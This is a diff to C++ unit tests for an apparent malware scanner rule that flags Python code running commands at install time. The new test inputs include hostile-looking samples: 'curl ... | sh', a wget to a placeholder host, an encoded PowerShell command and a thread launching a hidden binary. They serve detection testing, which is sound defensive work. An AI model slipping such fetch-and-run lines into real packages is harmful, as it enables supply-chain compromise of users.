@@ -107,6 +107,9 @@ TEST(InstallExecRule, BlocksGuardedByOtherCommandsDoNotRunAtInstall) {
 TEST(InstallExecRule, FunctionsCalledAtModuleLevel) {
   ExpectFinding("import os\ndef steal():\n    os.system('id')\nsteal()\n", Severity::kHigh, 3);
   ExpectNoFinding("import os\ndef helper():\n    os.system('id')\n");
+  ExpectFinding("import os, threading\n"
+                "threading.Thread(target=(lambda: os.system('~/.x'))).start()\n",
+                Severity::kHigh, 2);
 }
 
 TEST(InstallExecRule, StringsCommentsAndDefinitionsDoNotCount) {
@@ -116,6 +119,24 @@ TEST(InstallExecRule, StringsCommentsAndDefinitionsDoNotCount) {
   ExpectNoFinding("class Helper:\n    def eval(self):\n        return 1\n");
   ExpectNoFinding("obj.eval(x)\n");
   ExpectNoFinding("from setuptools import setup\nsetup(name='x')\n");
+}
+
+TEST(InstallExecRule, SeesRealCallSitesThroughTheParser) {
+  // PEP 701: the same quote nested inside an f-string replacement field.
+  ExpectFinding("import os\nhost = {'h': 'x'}\nos.system(f\"curl {host[\"h\"]} | sh\")\n",
+                Severity::kCritical, 3);
+  // A call split over lines, with a comment holding a ')' in between.
+  ExpectFinding("import subprocess\nsubprocess.run(  # )\n    ['wget', 'http://x.invalid/a'])\n",
+                Severity::kCritical, 2);
+  // An indented block (INDENT tokens share the call's position), CRLF lines.
+  ExpectFinding("try:\r\n  import subprocess\r\n  if 1:\r\n    # c\r\n"
+                "    subprocess.Popen('powershell -EncodedCommand AAAA')\r\n"
+                "except Exception:\r\n  pass\r\n",
+                Severity::kCritical, 5);
+  ExpectFinding("if True:\n    exec(open('v.py').read())\n", Severity::kLow, 2);
+  // Python 2 print statements around it do not stop the module being read.
+  ExpectFinding("print 'installing'\nimport os\nos.system('id')\nprint 'done'\n",
+                Severity::kHigh, 3);
 }
 
 TEST(InstallExecRule, PthImportLines) {
